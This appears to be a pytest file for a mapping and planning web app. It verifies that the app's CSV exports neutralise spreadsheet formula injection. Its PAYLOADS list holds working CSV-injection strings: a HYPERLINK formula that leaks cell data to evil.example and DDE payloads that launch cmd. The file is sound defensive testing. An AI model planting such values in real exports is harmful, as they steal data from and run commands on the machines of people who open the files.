"""Formula injection: no CSV the app writes has a text cell a spreadsheet would run as a formula."""
import csv
import io
import re
from pathlib import Path

from sqlalchemy import update

from mapapp.core.csvtext import FORMULA_STARTS, csv_text, neutralise
from mapapp.store.db import session_factory
from mapapp.store.models import Area, CameraSite, Promise
from test_follow_ups import form_data, post

pytest_plugins = ["planner_fixtures"]

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Öppna")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
LAYERS = ("areas", "camera-sites", "commitments", "follow-ups", "promises")


def _cells(client, layer):
    text = client.get(f"/api/export/{layer}.csv").get_data(as_text=True)
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_planner_text_in_every_csv_export_is_neutralised(planner, planner_app):
    """Planner text (a follow-up note) and curated text (names, titles) come out with a leading apostrophe."""
    for payload in PAYLOADS[:4]:
        assert post(planner, form_data(planner, note=payload, status="ej_bedomd")).status_code == 302
    with planner_app.app_context(), session_factory(planner_app)() as s, s.begin():
        s.execute(update(Area).where(Area.slug == "marielund").values(name=PAYLOADS[4]))
        s.execute(update(CameraSite).where(CameraSite.slug == "sergels-torg-2018").values(name=PAYLOADS[5]))
        s.execute(update(Promise).where(Promise.slug == "norrmalm-2018").values(title=PAYLOADS[0]))
    client = planner_app.test_client()
    seen = set()
    for layer in LAYERS:
        cells = _cells(client, layer)
        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
        assert not dangerous, (layer, dangerous[:5])
        seen |= {c[1:] for c in cells if c.startswith("'")}
    assert set(PAYLOADS) <= seen  # every payload was exported, as text, unchanged after the apostrophe


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text():
    assert neutralise(-12.5) == "-12.5" and neutralise(-3) == "-3" and neutralise(True) == "true"
    assert neutralise("-3") == "'-3" and neutralise(None) == "" and neutralise("Skäggetorp") == "Skäggetorp"
    assert csv_text(["=a", "b"], [{"=a": "=1", "b": 2}]) == "'=a,b\r\n'=1,2\r\n"


def test_every_csv_writer_in_the_app_is_the_safe_one():
    """One module writes CSV; another csv writer or a pandas to_csv in mapapp/ would bypass it."""
    package = Path(__file__).resolve().parent.parent / "mapapp"
    writers = [p.relative_to(package).as_posix() for p in package.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(|(?<!opendata)\.to_csv\(", p.read_text(encoding="utf-8"), re.M)]
    assert writers == ["core/csvtext.py"]
